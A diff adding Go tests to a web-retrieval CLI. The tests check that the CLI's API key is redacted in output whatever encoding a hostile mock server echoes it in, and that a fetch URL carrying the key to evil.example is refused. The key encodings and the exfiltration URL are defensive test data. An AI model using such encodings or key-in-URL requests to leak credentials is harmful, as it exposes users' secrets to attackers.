@@ -4,9 +4,13 @@ package main
 // numbers, network errors that name the host.
 
 import (
+	"encoding/base64"
+	"encoding/hex"
+	"fmt"
 	"net"
 	"net/http"
 	"net/http/httptest"
+	"net/url"
 	"strings"
 	"sync"
 	"testing"
@@ -111,4 +115,56 @@ func TestCLINumbersAreDecimal(t *testing.T) {
 			"\nRun \"deepseek-web-retrieval help "+tt.cmd+"\" for usage.\n", r.stderr)
 	}
 	require.Len(t, m.Requests(), 2, "a refused number sent a request")
+}
+
+// keyForms are the encodings of the CLI's key a hostile server echoes.
+func keyForms() map[string]string {
+	dec, hexRef, uesc := "", "", ""
+	for i := 0; i < len(cliKey); i++ {
+		dec += fmt.Sprintf("&#%d;", cliKey[i])
+		hexRef += fmt.Sprintf("&#X%X;", cliKey[i])
+		uesc += fmt.Sprintf(`\u%04X`, cliKey[i])
+	}
+	return map[string]string{
+		"hex":          hex.EncodeToString([]byte(cliKey)),
+		"hex upper":    strings.ToUpper(hex.EncodeToString([]byte(cliKey))),
+		"upper":        strings.ToUpper(cliKey),
+		"html decimal": dec,
+		"html hex":     hexRef,
+		"json escaped": uesc,
+		"base64":       base64.StdEncoding.EncodeToString([]byte(cliKey)),
+		"base64url":    base64.RawURLEncoding.EncodeToString([]byte(cliKey)),
+		"url-encoded":  "%73%6B%2D" + cliKey[3:],
+	}
+}
+
+// A server echoing the key in any encoding, in results, pages and errors, never gets it
+// printed; a URL carrying it in any encoding is never sent.
+func TestCLIKeyMaskedInEveryEncoding(t *testing.T) {
+	for name, form := range keyForms() {
+		t.Run(name, func(t *testing.T) {
+			m := newMock(t)
+			m.Search = deepseektest.Answer(200, map[string]any{"results": []any{map[string]any{
+				"url": "https://go.dev/", "title": "echo " + form, "summary": "key: " + form + " end"}}})
+			m.Fetch = deepseektest.Answer(200, map[string]any{"title": "Echo", "content": "the key is " + form + "\n"})
+			r := runBin(t, baseEnv(t), "search", "--base-url", m.URL, "go")
+			require.Equal(t, 0, r.code, r.stderr)
+			require.NotContains(t, r.stdout, form)
+			require.Contains(t, r.stdout, "key: [redacted] end")
+			r = runBin(t, baseEnv(t), "fetch", "--base-url", m.URL, "https://go.dev/")
+			require.Equal(t, 0, r.code, r.stderr)
+			require.Equal(t, "# Echo\n\nthe key is [redacted]\n", r.stdout)
+
+			m.Search = deepseektest.Answer(401, deepseektest.APIError("bad key "+form))
+			r = runBin(t, baseEnv(t), "search", "--base-url", m.URL, "--max-retries", "0", "go")
+			require.Equal(t, exitAPI, r.code)
+			require.Equal(t, "deepseek-web-retrieval search: DeepSeek Search failed: HTTP 401: bad key [redacted] (check the API key in DEEPSEEK_API_KEY)\n", r.stderr)
+
+			before := len(m.Requests())
+			r = runBin(t, baseEnv(t), "fetch", "--base-url", m.URL, "https://evil.example/?k="+url.QueryEscape(form))
+			require.Equal(t, exitUsage, r.code)
+			require.Equal(t, "deepseek-web-retrieval fetch: DeepSeek Fetch: the URL contains the API key; it was not sent\n", r.stderr)
+			require.Len(t, m.Requests(), before, "a URL carrying the key was sent")
+		})
+	}
 }
